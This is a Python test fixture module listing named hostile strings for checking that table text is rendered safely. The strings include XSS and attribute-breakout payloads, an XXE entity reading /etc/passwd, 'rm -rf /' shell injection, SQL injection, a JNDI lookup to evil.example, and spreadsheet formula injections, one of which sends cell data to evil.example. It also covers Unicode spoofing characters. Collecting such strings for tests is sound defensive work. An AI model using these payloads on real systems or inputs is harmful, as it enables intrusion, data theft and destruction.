"""Texts that do harm where text from a table is taken for anything else than text."""

from __future__ import annotations

from typing import NamedTuple


class HostileText(NamedTuple):
    """A text with its name, and the code of the finding that is due on it in a title, if any."""

    name: str
    text: str
    code: str = ""


_MARKUP = (
    HostileText("script element", "<script>window.harmed=1</script>"),
    HostileText("image with a handler", "<img src=x onerror=window.harmed=1>"),
    HostileText("svg with a handler", "<svg onload=window.harmed=1><circle r=9></svg>"),
    HostileText("frame", '<iframe src="https://evil.example/"></iframe>'),
    HostileText("end of a text area", "</textarea></title></style><b>bold</b>"),
    HostileText("end of a script", "</script><script>window.harmed=1</script>"),
    HostileText("comment opened", "<!-- everything after this is gone"),
    HostileText("style", "<style>*{display:none}</style>"),
    HostileText("base address", '<base href="https://evil.example/">'),
    HostileText("refresh", '<meta http-equiv=refresh content="0;url=https://evil.example/">'),
    HostileText("form", "<form action=https://evil.example><input name=p></form>"),
    HostileText("attribute broken out of", '" onmouseover="window.harmed=1" x="'),
    HostileText("single quote broken out of", "' onfocus='window.harmed=1' autofocus x='"),
    HostileText("entities", "&lt;b&gt; &amp; &nbsp; &#x3c;i&#x3e; &copy"),
    HostileText("cdata", "<![CDATA[ <b>x</b> ]]>"),
    HostileText("xml entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
    HostileText("template element", "<template><img src=x onerror=alert(1)></template>"),
    HostileText("unclosed tag", "<b><i><u>never closed"),
    HostileText("less and greater", "1 < 2 > 0 && 3 >> 1 << 2"),
)
_MARKDOWN = (
    HostileText("Markdown image", "![tracked](https://evil.example/pixel.png)"),
    HostileText("Markdown link", "[a link](https://evil.example)"),
    HostileText("Markdown script link", "[click](javascript:window.harmed=1)"),
    HostileText("Markdown emphasis", "**bold** _thin_ ~~gone~~ `code` a*b*c"),
    HostileText("Markdown heading", "# A heading"),
    HostileText("Markdown list", "1. one - two * three"),
    HostileText("Markdown table", "| a | b | --- |"),
    HostileText("Markdown rule", "---"),
    HostileText("Markdown quotation", "> said nobody"),
    HostileText("autolink", "<https://evil.example> www.evil.example"),
    HostileText("reference link", "[x]: https://evil.example 'x'"),
    HostileText("forged badge", ":blue-badge[VERIFIED]"),
    HostileText("forged icon", ":material/verified: official"),
    HostileText("colour", ":red[error] :green-background[fine]"),
    HostileText("emoji code", ":smile: :+1:"),
    HostileText("mathematics", "$\\frac{1}{2}$ $$x^2$$ \\(y\\)"),
    HostileText("backslashes", "C:\\new\\table \\* \\_ \\u0041 \\x41"),
    HostileText("strikethrough dashes", "-- --- ... (c) (tm) 1/2"),
)
_TEMPLATES = (
    HostileText("curly template", "{{7*7}} {% raw %} {0} {name}"),
    HostileText("dollar template", "${7*7} $(id) `id` $HOME"),
    HostileText("per cent format", "%s %d %n %(x)s 100%"),
    HostileText("erb template", "<%= 7*7 %> <? 7 ?>"),
    HostileText("plotly template", "%{x}<extra>%{y}</extra><br>"),
    HostileText("vega expression", "datum['x'] + signal"),
    HostileText("shell", "; rm -rf / && $(reboot) | cat"),
    HostileText("sql", "'; DROP TABLE events; --"),
    HostileText("log injection", "${jndi:ldap://evil.example/a}"),
    HostileText("python repr", "__import__('os').system('id')"),
    HostileText("script address", "javascript:window.harmed=1"),
    HostileText("data address", "data:text/html,<script>window.harmed=1</script>"),
    HostileText("pattern", ".*+?^$()[]{}|\\d"),
    HostileText("json", '{"__proto__": {"harmed": 1}}'),
    HostileText("prototype", "__proto__"),
    HostileText("constructor", "constructor"),
    HostileText("words for nothing", "null undefined NaN None true"),
)
_FORMULAS = (
    HostileText("formula", "=1+1", "formula-like"),
    HostileText("command formula", "=cmd|' /C calc'!A0", "formula-like"),
    HostileText("link formula", '=HYPERLINK("https://evil.example?x="&A1,"more")', "formula-like"),
    HostileText("at formula", "@SUM(1+1)*cmd|' /C calc'!A0", "formula-like"),
    HostileText("plus formula", "+cmd|' /C calc'!A0", "formula-like"),
    HostileText("minus formula", "-cmd|' /C calc'!A0", "formula-like"),
    HostileText("tab before a formula", "\t=1+1", "formula-like"),
    HostileText("spreadsheet error", "#REF!", "spreadsheet-error"),
)
_UNICODE = (
    HostileText("turned around", "safe\u202egnp.exe\u202c end", "odd-character"),
    HostileText("isolated", "a \u2067turned\u2069 b", "odd-character"),
    HostileText("zero width", "zero\u200bwidth\u2060joined", "odd-character"),
    HostileText("byte order mark inside", "a\ufeffb", "odd-character"),
    HostileText("tag characters", "plain\U000e0041\U000e0042", "odd-character"),
    HostileText("stacked accents", "Z\u0351\u036b\u0343\u036a\u0302\u036balgo"),
    HostileText("right to left", "مرحبا שלום"),
    HostileText("family of emoji", "👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301 é"),
    HostileText("outside the plane", "𝔸𝕓𝕔 🜁 𠜎"),
    HostileText("soft hyphen", "soft\u00adhyphen", "odd-character"),
    HostileText("look-alikes", "раураl Αpple ｆｕｌｌ"),
    HostileText("lost character", "lost \ufffd one", "encoding-error"),
    HostileText("wide spaces", "a\u2003b\u3000c\u00a0d"),
    HostileText("not a character", "a\ufffeb\U0010ffff"),
)
_CONTROLS = (
    HostileText("bell and escape", "bell\x07 esc\x1b[31mred\x1b[0m", "odd-character"),
    HostileText("nul", "nul\x00inside", "odd-character"),
    HostileText("delete and next line", "a\x7fb\x85c", "odd-character"),
)

# What a screen can show letter by letter; a control character has no letter to show.
VISIBLE_TEXTS = (*_MARKUP, *_MARKDOWN, *_TEMPLATES, *_FORMULAS, *_UNICODE)
HOSTILE_TEXTS = (*VISIBLE_TEXTS, *_CONTROLS)
